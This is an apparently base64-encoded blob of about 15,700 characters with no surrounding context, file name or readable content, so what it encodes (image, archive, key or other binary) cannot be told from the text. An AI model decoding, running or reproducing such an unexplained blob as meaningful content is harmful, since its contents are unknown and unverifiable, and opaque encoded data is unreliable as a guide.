8J689VFJ8Rln81xfcK89dgXs9E9UQ4kkhFwpmBsEf7rYOqUdYbMor7F5Z3LF/ePshtv+RqgOsofroQL1UDXE/xy4Tl30Dx06aJtt+NqP6mTZsxXdT/34TkR3rzmqj/vpniNWH+FoqPCscPt1J8umIAwlr/vI3Ov6D8W+F2xE+fPndxx/KwkP7cYeOX7hEW0p87Ed/dkxXu/3ch/emO53rykbBrJdrtr68O4G5Kvrj/vAfL78kI8/dSvHj8cB/F54Xt1/2YT2jdLq7Pdf3qAVx/iVhOrP+eBg9SfFdXNMe//43sO3yI5gXlP2yezivx8b6coP98hOKjERGe9N9HKT6lZQXlP0bxaU1U/uMUn8mJ2t8nbHxGSP6T8CTiZy9tbR+366RxrQLr/09R8rMpTVB/nkZ8uDueS2iRcFbPZuOppOf+paoAwDPufKc3/yw8i74X5X0BgOfc+QZv+c/B88PiX4AX3PntvfkX4cVh8S/BS+j77kQ6J6b/T8DLlP4M5ETnL15BfFrLNYna71eR/c0K86/Ba4iPR1PC53deR/wqPdkbT2Ybo5l8X4SefzOmoOzjH3L44w2UXi4VTGdSUV2PBXOpYDzJ03/eHBb/Frw1LP5teHtY/DvwDp4/i/UK1/+7qP7dR67u/HuIX7ygY57o/MX7SH8XL+hYLqr/H2D9zyeE8/8hnj+I9elhQfkfIflk/iwyOxpfFN9j7p5r5rZ6tV9NAOBj3H7d4vHXJ7j/Jod6w3n3Tsxaf/8U5d/gs/w8Wb/+DPOrxedvPsf5Xy1e/i8oXnz8/iXmu9PhRCqqJTjnD+VagL/h8ifE51//Ts+/tugrOuKL4h3xvWYu3NtLfwj3D/R9k5ZLaNn+Vt72q6pZC1/h+WOy/iAw/iP7J/4P8c25ZvAoP/2BQt5iVi5/Z3Ous1mw/32NeZJAhRRY51f+hXmyfjcrZ/6HY/5NqQf4BvENbbNyDUzSXf63FN+Va2jrEhr//hvxZP1u1pSc+R/O/H9H8eMmEnzcxClc41eoOwq+R/z0+Yv26Fi6LMw7fvP5Af6D9S+eEtaf/yL5sZi4/fiB4sXH3z9S/IAw/xPix5Cp5zEi8eOB8DP6s9NIoHOMyPj5F/T9mHhMT+biuaFcqldPjvGcPySHX3+l5FMJcJyf2IJ6j+uYjN4dz+YyvPL9owB+p+RTCXCd3/gDfb9s7wXL5y1sbG0U8J/rkP4u23vBvJkr+Xm15oryxZpEf6K9mXCFKTjn+LPGvBwV8yl+HmoazIttiteBdut9TV35zFATuyPaw29yeFtBFxBomRxZ/cDr1xXPP5P1L5Xm49j62Za/mfbfh/hVXZlUtwBP5g+qEN8xb3patP9WS+X+G+3bqy82O5fn7X+K37qryqr/VdlMWmz+9GOoofmYGF8r1SJ+cpjYj+Wk73DPX9ah+uv0SIClPyMQ39DeUTEBlv+qp3hNiJfqAUYi3sy+2PzVKGf5BeZ/6qUAo/wi9ns9Rvn51+9HSetT5U9r2exAKhPjXz/fgC5/xQSc8cN60mhb+Ssl4NSf9aUNbeUX4aURG0gbId5D/RnlHyFtjPhkuq9DRP99IwA2cfJziRPl4dUR5N3WFC8Yf8RgM2S/UkNtgvHX2bA54tNatFcjDjisMVcy7eFDzUiALSQ8f1XkU5kcB+8bCbAlm8/z8GT9eismn+fiSf63ZvMZXj6I+aF0vLGje+bc6JzEgLZsvFf8QvavboPav8gvjM3ea01suidP9k+NQXwmHxnq1vuy/PGH9Xax4vi3t1FL5hq1WF882cKIguzhlzQKYDsGn47z9T+ptkFqcPIpLcfLby9tz+Az3PwO0g5OPhuP8fJjpbGI160LUHjtt+y/DnZEfCQSTsT79bCI/9gJ8dGs+Pzhzqj/9+pDwuOfXXD8lMlmROffGun6F7Rfu0hNSL7eFhHOfzPis5Wnf9jn/xE/q2N+eN7MlVP52x+gFZXf4l3P4LD2D7Ux+Kmc/d9Xk4N2J+96Bsc5f9YmjWPx3PFHuzTeybuewbGXX64fL01g8S5ncOz+t3oEwETEd0Ubhdt/V9T+XQPi+jMJ8wnx+Y/JiO/Ois5ftkpTKP1v7NET8WgqqTfy1J8yAmA3VH89XeLlnypR6xfhVKZbaP7pL3j8FE8K77/ZnbY/iS6h9b9mKYT4RLa/LZwWsf/We70xX6ENnfw0aRrFh4X1Zzqq/0RiUNh/zEB8X4t4/5mJ2z8ryj8OsxCf7K+8Asbafz/b5v9J7MM7/yPV7CjNQfzy9mmJSO+sPXjbj7weYS6K37K9jalMYz/3/JOvZkfYA8ef6coN6PS/M6V5mI9WNiBOfjdpPuIzu4r3/wWo/TJp8fWfhRQvvv9rEeJz/Ykh0fXPxaj8Bh/T+/n1Z4m0xM6nM6lYI6//td7gXOS7Re+f+x2WUeMf8f67HNXfgJaMRSrkgHV+ZU8kf1ATX7/eC8kf7NWHsvFIo4j/2BvLz/bl0hUScK6/rZBW4PrrDZPWE4rfV+L53z/B74Pb3zZx4TV/SvR3X/Re2Vg8G8VTL0HbASbW/stOxCdS3fHkWA/5Nvu7H7J/5s75pkzeSsT9/sby/OX+iM/nelKZ+BqNnD8C6vxTMMief9pMCiPeKn9TNNXXrKXjzTzj7wPYfGczYxTM4jUXniTgzX8DEReerIF68eT+rCibb2ib5S2f7H+IufFd3jyZ/9DZvLEG6l1+DbrceMYiKEt+t5PX0mlTBbx4cn9ujyvf2cwjP+7Od/Lwq9z5vBdPXkDR68o3tPHITwyDHxHQpT5XfvtteeQnh8WnpBTi585espeo/0kj/zN3dofw/durER+bPSkjymckfP/kCmH/naX4vYT5HMWL3/+ZR3xjPivM90vl+/8qn15itZ8kDeDxS0w8/hnE8+/ZcH9bWEunOfcfKbXTpSHkv03efQTs5NdIa3D8rYvH3wei/C+b3STMH4TjLy2dFt3/dzCOv1KDetNgajDtsgTPun/gEAYf4eTJ/M+hNt599Z+9/6dA82kRXqk+VDqM5iNi8g+TDqf5qGj9H0HzMVH+SHv+hfiCdJRUfn+CUX+C8o+meU2UP4bmM6L8sTSfFeWPo/mUKH884smxz2xTNqFFe40Axsv/1QZmSScg/2fjO735E6UTh8GT+PGvw5L/V+kkd97z/EF9ICmdPAy+JnCStNad57p/9ZRh8adKpyK+eW4ymuqLJ7v3No8A89T/aXj935aAd/2fLp2OeVsC3jzAGZg3Nm6Wk/Di5cBhcCbeP4BhDvl1gTOksyi+S4iHwL/hbMSbGzf58y8F9oFzKH7cRIRHvNv/bOlcvP+jQ/z+zvOk8v1xnZPF49fzEd/QXvkFAM75942kCyheE+QvlC5E/LyZK1vE8j9BugjP/w3EE3jnnNf9LeT83MVo/mPZvBbh+r8E5X/ZvFZh/lKKF93/cZF0GcW3C8u/nOLHCfNXUPx4Qf4guJLiJwjLv4riJwrzV1P8rsL8NRQ/SZi/luI1Yf46io8I89dTfFSYv4HiY8L8jRSvC/M3UXyXMH8z4juWzBTmb8HrX4loj8j5fWJ/bkXxdxNJQO8bMoK//jbP+I/MX93mwnc297d5+89V0u3I/1B8Z3M/T/xzhxufb2nx5vPSnS58Q9ssLvl3ufJdnnxtYK10twtPYgHv+ktL97jy4yZ68/dK9zJ4LR1viqf46v8+V55v/vJ+d94zfq8OADzgzue9+QelB1157/lHEn8+NCz+YelhV957/pH0v0eGwZP6fxTxg+lMv+j85WPIfg0J849LjyN+jSBP4scnEJ8Tlv+E9CTiI/FcNIWO3XqtX5Hz+0+h+C2diffb3v/muf71tI3XcrrA/YUAzzh5ofsHn0X8QJz2X/TqG8v/7AfPIT6So+8PY/AO/Xke8daLD41lyO3SmRSP/r+A9HfW/L2XzZw+j3v9ltxf9yLe/1Jp86TL/MlL2P/Fk135jGbYzvbmyvOHxf3HLzP5zub+9k4u//sKmzcS4OFfxfajzDOPQDrtx7fwGpMn3rO9gUf+6y58Fxf/hvQGk2cfgWTJf9OFHzdxSr833yO9xeSbB7LN/e3e9fea9Da7/psHsp0c829TpHfYvJGANx+V3h1G+48InCW959b+A9kG7/gD4H239ufgawPnSB8Mo/1rA93Sh+7tP8DjPz/C59dM+yU0//8x3v8RS5gbuLV0nLWX2nn/w8vSJ9T+M9H93wukTxFvvfiV7CHJR3NxT/tL7m/9zFF+soNJT6TSfbo3/7n0OT5/sCZdsQDO/TOfSl+g/Pcl9b5UMh61+d9gpf0vX+L9c+TmjXRPRsvqJR5P4rD2j/zNxocFeKUO4O82vlGQ/4eNR7in/1dr/y59hetfj6b69cxQsQ6CQfoNwPbpS3kUwP8x+DAnXz0K4J9U/snxh3IL0LRz/3Z1/f9JXzv4MDfvqwf4F+IHtERCz4VJNdr2D7HrH+r+Bd8gPhJPt0/yiH/s8cO3OP894vfv/Rv3/550xRssnfx30nc0nxbhparnpe9pvpL5Y8w/fCL9B/OrW6LZNP/6Jbn/4L80r+UE+R/w+reg/STx44+0/SWL765pOM8fAvxE8zk9mxOw359JP9P5F+JJ/n9B/EBPVo8K6t+veP1R04Tvb/uN2r+ZFuZ/x+eX8uL7F/7A548Gc2nR+H8dlj+YF+LJ/kmQMZ/rEeUlxMdyLdGW1iZu/SfjT5nmsyI8Ob+v2Pk2MV6187s2CcVPPhvfOkFE/gKokvH5u2xetP2rEd/RMbOjY++9sitXLGzR9l7gOX4g9+f5Zer+xrA+tIdQ/dXI1P1TGdH722sp+VnB8y/PQB3ie6JavFdw/nkExQ8K8eT+oXpafp+o/JG0fEF+lDyKlp8Q4/8BAVp+QrT86yF+4dK5c0Xt5/o0v0SM30DegOKXdojKH03xyxaLnp/YkOLF7p8j/Xcjmp8vNn/4gLSxXP5bz7e0Dg6KxE/90iYyHv/lszsL6u+mNt58Bw3f/cNVde9Lm9n4BjfY5f6SzR18ROD8XYu0hY0330HDm/8jYUsHP659Cuf+R1/tatiK4vW8aP1vbePF6n9zOWjjRet/GwcvUv9bymNsvEj9q3UfSds6eP76V2v/A9thvmdQ+PxVg4zunxC+v/tu2B7zSfH7C3egePHz42NlfH9jLjOUdQ8BWPev7Cjj+xtzmaG82PzTTnZeE+N3tvNxMX4XzEfF4/dGXH9RcoGLmPwmHD8mRd9fMSg1Yz7dlK50gy7r/FILzWdFeDL+aqX5qKj8Npt8TUh+m9xu46Pxvib+8es4eRzNa/lYnPv+UagZL4+35z8eE5A/QZ6A9S8nvn99ItK/VYLvDyHrl7sivjcf0bVYX3CVtQgZtE1AseYPJqH4I5JK5bK5jJZuNE/yBekJOOb822QWbx0EtL3+0LF+5R8JMIXFh/nkk/v7dkO8Vf5w8Ryi1/3PZP5uKuI72sXPX/wF1X8qnRUaf6nVX8HuWH96tLbxEw4RGr+FZNv5S8H79ztkM44u1l80leyKdzfmed4fVFsPMA3Jx3xWd25lZ92fOB3JN+dfG8n8F/f5iRlIfr+WT+To+VPP+/tmovbv6c8K338+C7V/T39EmJ9N8Rlhfg7i90xmdS0RnKcPBTnjR4C5qPx5gw/b1v+hwvr/RGkPB297f2Cw8vsD5+H+t9fCZaLzJ/NR+2vxfj3Z3yrkvxdg++96c5S7/V2I6j/Wq2ui/CLMZytngHn+H+c/ldXF5G8CS7B8+wYMjvH3Uiw/ksuLzT++Ii2j+ayY/GXycsT3rRG/v2ZPGZ+/i4SzmvsNKM77twD2QvKT5AIZQf3dG/PpbuH8r5DL8+fpbFRL6OH0AGf+q2rvgZV4/GTyud4k3/iNvP93Hyefcouinf6jWd4X2289M7m1sSeezE3mku+rmy110nynlUDnZA755P7P/Wi+ob3DTKChvcNj/425frm/ndeKvObJ1416HcK28rcLlJ+8v/IAe/nb+ctfVb+frDnK385d/hGjLpcijvK3c5dfHVUjR3H8Q16dUuEGO2f/exliFC/+/j8dj/8i6XB/i9j4r8smP1VhCGnPP9R2yd24/zRVih5Z9iMk98h4/Ut8/iGO5x+0nHD8uwrzwvfX7SP1In76rMUVX+DBGr8mcP0nxMdffbj9E035JqH6315O0vKF3x+YQvK74t0xMf+xE6SR/K54d0rU/6y28Rmh9XuADM0Lr39lbbyo/BzFp9gDF9fxz3Q5L1PvP2pMaq0C+z8/hH4H38bNk/u3Bhx8u8D9QbvLgzZez7cK3T80ZOO1ND+v+H3SGhnvf02GK4VATvkr5ANtvIj9rK7tlA+y8QMC83dk/Hww7r+9lQ2wU3/i8iE4fsslhe3vodj+VL6+lbH/ZCepgOPfbI+w/TsMyW9pmSHMH47iz/EdenrXCa1C9X8ENf8RT6dT/PtfqkfMlI/E6+fLlwueH70ejkLlzwm///o8OFqm3r8jWH+HyscQfnSR74iL6s+xmB+gXl/AxR9H83uI8sdTfMs8Uf4ExHfMntm4bOb0pTOXNxrvwfCaPyLnd05E8weN5GfazNlzFwZnLpy+dCUP/1cm39DWMnPhdC+enF8/icnvzCVfCTRJJyN+sXn+opGsInSlMn3e8lvktcPgSflPGZb8U+RTh8GT80+nsduPe/7qdLf245y/PIPdflzyq+tOks9EPMyeu3z60pWLl8+buZLHfqkjjoOzED+2tXVyulyHnuMn8v6cs2m+s1ICzv33p8rn0HxDe0c5AW/9jcrn2nmNn5cDAOdhvo2UP5XTozmykTnDM398Ps134gS8+PrAV9IFNG+Uv5iAd/nPky+08xo/T+6/uwjx8/ShycGx/PVHzj9cTPOdOAHv8gNcQvMN7R3lBLzLf5F8qZ3X+Hk5cDBcxig/b/2R/F/OKr+VgHf9j5OuYJbfTMA7/5fLVzLLz8dLgX64CvF/fP3H117+077/+GrEv/jiiy+K8OT84TWIH9ObGxojOH67FvGdJAH314cx5V+HeOWdS8/t/nXeHfzjL4DrbbwuxN8g30CtX+Qy+WxOjwWjqb4+Pemt/2PgxmHxN8k3DYMn589uHhZ/i3wL2/8uSuvJvbzzv1a+1c3/Lkpz+I/b5NvY/pdLPjk/dDviZUlpOVxQf++w8QVB/k7Ez1/Wkpu/rHX60j1jeyyPe8Qf1vtb7qLkQ0t9Vc1OR885+sd6SZK847d/S3fb+A2qqnc6es6LU2XJW371yHvke2y8r0rZWU/zrh8A3Evz8uGSBLz9T/E/K91n52URHuB+HH/mly9f2bgnWXqepw81zuLRnwcQryW6U5l4rqcv2NOnRb3fPzNiFMCDTH4MMwGn/3pIfojJdxoJ8MTPDzP5OQs6pvPk/2H5EcRPnRrUY23jx7dO6m9tzOqe8sn451Fs/40Xh5j/kpS8/ecaeAzzUzupHPDYv8cR39A+o6F9RjkF7/p/TH6C4mMNZs75eBK/PYl488Uh5r885a8OHAJPUfyE1inGP2YevO3nSHjaOf6axxg6uKzfPyc9Q/F6tkfL6DGXFOzjF3kEwLOIt98/4D1+OhaeQ/xAPKN357VMLGymxNN/n8f7pwdzGa1H12J6ht5/UOH84wu4/5ivfhvLHz+Mll7E8sn03ViR9YvD5Jdw/cXn6UNCPMDLFE+qfqxQ/PgK4o3jtxWy4Hx/6RC8aucrZMG5/7QWXkN8Uh8ILp6xiLv+yfz564jvG8quTsTD0VQyqUcZDcF6f9gbNvlmGmM515/flN9EfFO3nptuCo+nkt7yfaMA3sLtN2RIb3IrgLP/vyW/jfgFQ8uWzI9FuHky/n4H8Qv13EAq0zs9oxuv4fW8f5ycP3oXt3+P8fbE2GRO/fHVALzH4Dsn89qv9+X3GTxr7Zq9f+Ey+QMmr3G2/wfyh3b9E9r/8o78EeKzWSMDAv33e+ljnP98JhEUjF8/wfa3W8+J8GT/z6eIj6WivXomaLyGgcd/+EfsL32G9T8V69OS/DzxP5/j/Xt6ok8s/1OlL6jxh9j7S6EW4EsnH+O1X+D/m/w3B49P4FcuP4z4u/x3XH9aNjtZsP3+QcnPub+8lDl+Pwu+onhj9a6tMaJrGT3jaf+qyPl/ijdXwPjrD+CfFG++wcMtGdb86dcUT97f5Ba9sPYv+uFfdt4dZ8QPB8rf0Lx5A4ZLM9izXzXyC+lbms/netwbkfX+138jfnJzs/D633eY72zubBayPwdL31Pxd0dD26wG58UxrvV/lPwfitca2roa2ro4ebkG4L94/OFRAaz9Qz9Q5e9s7qxQA879Q+9JP1K8cW0O+/Ic5vrF69JPDr7L/JeDr6nfRv4Z8dP3XDp/0eLlQufHfrHZH3zpjff711+Sf5XR/WM26+d1/wh5/9RviA/bvafn+4e+kn9HfKMw/4f8B+IjNt77/Ufr5HWITwjzoJA+WKo/QZ7YfwnxGWH5kiIjvlaw/oh8BfE1f4JXER8Ubj9F8SG+SZivUqoQP0aYr1aqEb+DMO9X/IgfK8zXKDVU+9murPK8vw+glqp/cb4O8c1/gh9B1b84X0/Vnzg/UsH2Q5SfJo/C/dcWOgY55AcQbw97vO4Pl6peltdDvD168eZfkden+bDt/kqofH/lq/IGNN8oxn8jj6b5oBgPsKGj/oIC518ANlLs90+K8Rs7eJHzN6/Lmzh4kfM3r8mbOvhGAfkjYDPMk617qAGCtgZwxg8nwOY2XvT+0y0QryejmaE0mXsxcxGkDhCy11+2ZPJmLmzHF5nvv94K60+8OxlPdgvdv7o14vu0bE7PhIX0J+jgxc5fbYP4aHHiJ8EXf5H1nzGYN0ZfIvk/BrbF9ZdLZbRu/vtryf152yF+1UBOyP6Q+c8Gyn6kw6L2Y3uaF7SfADsgPpSLpscKzt+MVcp/h/LJ+KDg/PGOiI/Ek7H0QJB7/EL2b+7k4GsE+J2VnRGfiGnpcEzvIsc4w1rec/5fCiySd0F8JpXKiea/0cGL5L9JaUJ8nxbtiSf1oMj8RTPiS9NPwR3oDugy/6jU/Sa3MPkxnHyr0srkrU0c7rz1/vU2pQ3x0VSyX8/kcikyAZPP6Lbz20HW+x/bh8GT/YvjhiV/nDIelz+by8ST3cXad3Rg5/2hABMY/BgBfiKDL22hceOR/d0V8XHDenfF9VgwMhTcgfZ/LuvXk1z5MRz8/dJkV75zjAdvrN9OUWzzB0T9jNwD0LTT/8r17cpuiA8K95+pylQmP9VMoYL+m+cH/6L8hcmba+CIJ0kEnfv37pJ2Z/NT6Qpgz/8pI3dXQkyeLGPvQPGs9qsddZXUMQxeHQUwjcmTNfDYFJoPMvYvPi1Pd+HJInjl8hP+UJjB0J+pwGx+xvxfhzKTwVuth/TPrAB7/deOfFyexeKnesgvzV/NUmYz+Ib2mI0PuqxfTVPmDIufq8xl8FbrUXwQWPd3bCfvweQntE6pWP7i/bsA8zA/UGo6t/Gvbf51PWU+zRebrhy/QbH0rPXH2coCGz/VQ779/P1Cmm9oj9n4iu/v2kNZNCx+sbKY5otNh/mg+/r9PGWJnTebzr381PhtV2kpy35z6/8cZRmLZ5tPxvnphcpyJj/VQ37x/PRyZU8Wb7WCzfw54p+aEUuUvYbF763szeLZ5pNhv2coK9i80YoV+59hv2YqKxG/mxaLkdmLqWP41j+rawH2wXw6k0rrmdxQMKn16c5UnPv3v5b2xXxzrz70F7HxSyfim2N6f3Mumm7mXv9ZIu+H+E6SQCdJgb2Iw1o/2x/zZgJmCowknPHTT3JYoffPtc0iSRi/eI5/5MAv8gGIbzDghrZZuWiatYrm7D8AGsV3GXyXwXdxrN9+KEUUav9b26wpMb3f/MUz/3WBt6QoxY+baOLjJk7JRdPe+tMgx+ztn49xt79SA6A72z8f427/sNLFan+SAlf7H6B0u7e/5/unlMDPcg+r/fMxzvaPKHFW+xt8F0f+o8oq9/bPe+tvTOl1a/98zLP9yf7TBOL1YHMknmx2PQXLWv/to/hOkkCnWwqs+zeSNG8m4JKCc/yQUlI0bzQ8SYL84r3/Kq6kKb7BgBvaZnHJr64/WV5t47sMvosz/wAZijcbPhJPGr946++5UtbGj5to4uMmTsl6831Kztn+EY27/ZJKntX+Lik4x59ppZ/d/swU7P1HGTWgDAyr/Vcrg+z255SfVYbY7c/Fy6N6lTXDaH+yf/1A9/aPeLd/XjkIz/8I9/9+5WCKF+3/g8ohNC/U//31PcqhNC/Y/kNKgeJF+39GOczGi/R/uf5A5XCKF2t/NZBQjrDxIv2f7D890tn+Av3/EOUoVvtz9n+l/mjlaHb7c/a/Q5VjhtX+hynHstufs/8eoRzHbn8u3j/qeOX4YbR/VQDgBPf25+j/Bysn4vmjRj1Y6QoM5/rLOumvNt5VeVzm70+i+KgQL/sBTlao/Y89jfqgHuW0X1INwFqn/3PNAev+ulNY/s8lBef+22OVU9n+j5mCffwpjywopw3D/6kBTTmd7f+45PtHnqCcwfZ/XLwyco1y5jD8X1XgROUsd//nuf++LvBX5WxKfyooj8v64zl4/aq3K96V4l8/I+d3z6X4ZCoWFBu/n4f4gyq7b0b/O005H/OV3Tdj//bpygUUX9F9M/ZfA1xI8ZT6cvi/45SLMF/ZfTPkbwoX03wl983gL1EuwTytvp7vP4TAhsqlNI/dd4/3+E1XLsO8cPx2jHI5xYvGbxcoV9C8YPx2oXIlzQvZr/rAGcpVFC8Wvyn1ZylX23ix8ds1yjUUL2a/6gNHKtfaeLHx2znKdY7+H9H4+++VyvWM/h/RePX/KuUGZv+PcPqvG5Qbh9H/6wMXKzcx+3+E039dq9zM7P98fNXIw5VbhtH/5UBOudW1/0c0b/565TZn/xeI369Qbmf1f874vaoe4A52/+eMf29U7hxG/1cDVyt3sfs/l/yaUbcod7P7P2f+z1TuGUb/lwNLlXvd+z9H/H67ch/FZ3vEzm+tlu6neFJssfjlAcxnew4CD/n0+iPAg5gn4g8Si38ewvPX8aSeMxYwWrjmn2tGADxMzV+TBKwFjBae9z8DPELPXxsJuC1gOP3/XcqjjvlrIwku+6cEblYeo+evCey6gOHcP7JKeZyevzZ5lwUMJ/+E8oRj/pokwRv/3Kc8aZ+/NnFjAcM7fn9begrxTV3xhJ5Mjd2RM/4h+4eeRnwqrSfHLls+Y+7CXbjsp1oH8Aziu7KpaK+RCJ//Je8PehaPXwb16GR6/TzotX7+nI3HZ3+ZvO39Fc/beHx2N2hbQHeev/pQfmFY/IvKi4hP6rkmUoV6LtuUi6aj5Z1n5n+d+g/wEuKXT1+8zMCb+OqfnH96GfHZtDaQHDvGCqLHeNr/6lF3KK84edcg2rn/7iblVQZfdKLe8c9jymsMvuhEve3X48rrTr7kRL3zf6/yBou3nKi3/bhVedPJl5yod/6/h7dYvOVEvcdPTytvO/jOogJ0evH+wKvKOw5+BwvfgWP9dzm86+QF9Oc15T0Gz68/ryvvM3h+/XlD+cDJc+vPiMBbyocsnlN/qgNvKh85eW79qQ48pXzM4jn1pzZwlPKJi/1gBZCs+OFTV/vhHf9XB95XPhuG/fAHPlc+H5b9+FD5Yhj2g8xffzks+/GR8rdh2I/qwCfK34dlP95R/uFmPyJalqf8X7nYDx79qQ68q/yfq/3g0Z8vlH8Oy358oHw9LPvxpfKvYdiP6sDHyjfDsB/1gW+Vb4dhP6oC50v/Hob9qAp8p3zn1D9W6OGyf/0W+J6hf9ke9iWSzvu//6P8x5l/lutyWf/Q4b+I3y48e+ZygfEniV9/oPjFi5Yt5x//kfj1R4pfOnPJnjNdk2DtX/qJ4qcvWjRv7kze+XNyf9LP+PyLvrppdV7P8N5/IdeslH6x8ZFUjPv+C7L+9auNT2sZrS/Lv//wN5rP69mcaxlY+49/Z/BuZWC9f+4PPH7o1xJju9cIzT+ss/PZXCacSeVa273vjyL798gcBMVHtKw+YVw4pkdT3vbHvIO9+BMyEhCbv5Bt8oMVKsD5/odtJEV11n+3nltM1IDH/6gMPp7T+/b1eP+leX/GYsnH4Mnd5Tx8Vf13UKW66F82l6FPH7HOL/2hVDv5fenjP5XPD/kZfOcYD77Uf95Wahj51zLdWV79r3WpPx6+akS1Wsfg+7VEXs96z19XjwQYweDdrLjz/kGAegbvZsWd+QcYiXjy7tJcvm/nXDTNvEnGnn/fSIBRLjzrKh3W+amAG9/Z3OkdP6ynrufG51tavPefBNT1nbz5CnOO/btk/84GbPnMq3hY90eNdvINhnDGJXBO+9EnbcjiIwav8dT/Rk7efAU6R/mrAvdJG7P4ce0En+w9/tla3oRRf9lsglP/NlA3deF59M8X2EzdzI3n0D9fYHN1czeeQ/+I/d/CTf+y2YR3/N4HW7Llc+mfb9QW6lZM/ctmE1z6t5G6NVP/DJ5j/HMEBN30j6P8/sBtyjYu+kfawLv9HlLGsPpvIsupf1ur27rwfPq3nbqdG8+lfw1qgxvPZf+2V7d3tX+JrLf+baXuwJbPqX87qGPZ9i+R5dA/Yr92ZNs/wnPo3zbqTq72z7v8NYGt5J3d7F8iO9m7/gB2YdRfPsbnf0n80OjC8+nfjmqTG8/lf9dXm914Dv2rDjSpLW76x3F+ojYwVm1ly+fUv2a1jal/5AAJj/5trLYz9c/gNW/7BTDOTf84yu8LbKuOd9E/0gY8+jfBybe6BYDO8dt+ykQ3nkt/WtRdXXlv/SX+c5Irn+fQP4DJDL4YAHqvf7apU1zksxTQKX+KuhuDLwaAPPmfyuQjXHx9YJz6FwZfDAC97d8YdXcmbwaA3vtHtpBDrPpzCQCd638AHW48h/5VBSar01x5Hv2brk535Xn0b5o6w1X/sllv/dtNnekin0f/qgIz1Fls/TMCOG/9AZjN1j9Ofo46x1X/shzxxy7qXDf944gfawKbqns4+TZ++7erOs+N59A/0n/nu/KdHPZjgbrAlefRv4XqQgbPa/9qA3cri1zk8+gfGT8vZvAi9m8Jk+e1f7urSxk8r/2rDeyhLmPyfPbPH7hcWc6qPwH7t6cbz6V/e6l7ufI865cAe7vyeY7xxxJ1hav+8fT/xepKF/k8+jci8KO8D1v/uOyXL7BS3Zetf1x8dWCp2umqf97lJ/q/n5v+cdi/6sD+6v6IT6dSiaa+eFIf7Ms0RVMc78/cQw4jfrAvYySh53n3Px+gHoDzn0+nU5mci3TW+EdTNcQntWTKyEAq0807/xtBfBspeybLFs6Yf4U6gCji+1JJPZNKRXUt2ZTNZXSe+DuG+B4t29NPLo9rSmdSHOs/5Pyyjvhou1F6ofWbLpx/UvxuLae71IDz/sh6pRvx+SRJQYskdL72k0YC9ODy65lUpSZg8XFH/ZNa5OP9I7vVVYjvJbdn6oNNSfM9Ip72Vx61tdKL65/wqWS8uyfHpT9K3W5yAs/fa8lYqm+Qu/3I/X99mB9sbhHZ/0vWzpIU31kxAdb6cYrmKybAWj9O07yxdaGFc/3WV/ONspriG9xhl/NjGRvfJcRn1SzFm1sXePOv1lyn5Gz8uImuOGP9+yslj9cvcz2ayPlRsv7Zj/VfG0inBsTabwDxWj6XSgz1prJtvPtvB6RBxI+JpZLkvasJvV9PjPHuvzASYAjxnVQCnRz395ysrEF8YyPm+eQfiPgVC5bGu5tF6j+iHmTnhd6/AHCwg3dPwHn+8GD1EAfv9vYGlv87VD3Uzru//oKxfv5vpeDku0T2fxxm59lb313WT/Pq4U5+3MQpfPrrq91TPcLOBxsE/G9BPRLxey5esY2I/Qb1X/JRuP/aXt3iff/6xdLRKgB5D6DVf3tsfLCy/zhAOgbz6bigfIBjER9O296Z5yGf7B05DvHk/meR/IM6Sj0e8fYXN3m/P+Jz+QRc/kQ8okXo/feV7l8m/vtEmh/KJ23yK9yfJ1cB/JXmo4lUPmaTH3TvfwAnYb54/7p1EX+Q/mHcn7mZcrKDJ1dQh40U0PXXzP0jvsCmylq1fH90KpsN43cAlPeesPufXBuRT0Hys3o2Sy5PL75AiNq/4nJ+7lQnX3r/kO36dMb+iR71NIqP5jPx3FAxA0FbBljrN6czeFv+Xe9vr67/A87A+m/eX16qQmr7DvP87/rKmQ6+3AJe5feNADjLwTcKyD9LPRvxPZT2euu/UnWyeg7m9dyaJHpvF8/9++diPq8N6KgLeb1/U6oDOM/Bh0sJ2NTPUX/SiPPV8zE/QKk/2NSfeX/GBQ75/PUnVV2gXoj4eKRPyH6Q+0MuovkwToAqvEv+L0Z8JJHX++KD3O1Hxq+X0PIbReST+9MuteUf+zDv+/cvUS/DfJTCwYYz7ffliB/QctmUgP0n8fsVuP+lsmH83mW89w9c3j9/pb39UlmB8l+uXkXLbxSRT96/dbUt/2L2/1T1Guy/48lUTBfRf4Brsf2NDgjKv1C9juK1hD6gDYn43+tp+Y0i8qF2e7gB8Tk9GdWTOYH4o1q+EfGrBe0v0b+bmO1Xen8JVH5/yXbKzc782+ynu/+pGXGueguOP2IpKoTkef/FrTYev3zQ2379BLchPqb3p9JZsfjtdtz+Q9mc3hc2w6hcqte2/TbofH8EwB0ofkqmyO31UY28AaYnH/GM38j9+Xci+ZgP9+QjFMyQXx+4S73LhW/k4EcEZkh34/pfk8/oYXKAV4uX4+9gBf8JcI+dL+Mc/vte9V4738gvn9yfc58z/1qcGj9U0p/71PsdfDTVnYzn4v062Jqf8f7nB9QHqP5XJGn74yYfagAexPqX1vVoj8j7b7ZQHnLkv1R8oF5+wIwf7lcfdvBZXctEe/ja/0H1ESdvlIKPf1R91MHnMloym9ByqYyt/hn97zH1McSbmtNkJENmoKn4j7l//hH1cSp+TuVjXQktw/n+SKUW4AnMd4nFH8R+P0nz1LtXbeaP0X5PqU/RfCyZ5ZdP/O/TiO/SsrnEkJj/eYaK/zOp3rzI+OEa6Vlsv/RcIt41JOA/T5Cfs82f2PyHR/x+rPo84jNaPIHCB0/5avUN6guI79czUTxvyRP/vEjZ7wFB//eM8hKO3+O5SJ6c/+csP3l/18tYf+KZaEKPxkXGH684+LBt/A4V7Per6qsOvpGbJ+Pf15zyo3Gw2U+X8pPzL69T9puceuoXaP9/Sm9QfL+e0RKljave9v9N9U2sf3qaCoCCNgVg3d/wFo5/Mqkkqn6wVR9j/QvgbQefSUc5/aevBuAdOx+NC/TfiPSuQ74W64vz5Z+8v+09bL9SmW59VUpAfpX0vq39I3p57dpL/8n5ww8Q3x3PkbBPwP7drX6I+Z6wOYXDOf8ANbPkjxC/Sk/2xpNZgfH7m/Axjv8zWn88K2a/PrH7z2xfvDiL7e0/T1M/xeXPaLGE3pTORxJxso5Gx9/s+bvPHHxYgP9c/ZzyX4Nh/A5SNHnK1L+qutHKFzY+3Qe28U/l8ceX2P6n+4TsP5k/+ZuNN96hWZ7/hErzn9LIzaW/07wt/vC2///A/jeb1fsiiaFiBOrV/uT9k18x+LBt/ACu/f//1P/DvBYXmj9Sqq9Q/4n9p5bVc+Xic81/fU3pv5aJd2lxkfmHf1H2p0fP6GLx1zcUT6kv2NSXUf9fqt9S42c93Y3OzXrln8wf/Rvz3aLy/61+h3h9UBOc/wtJ39N8ox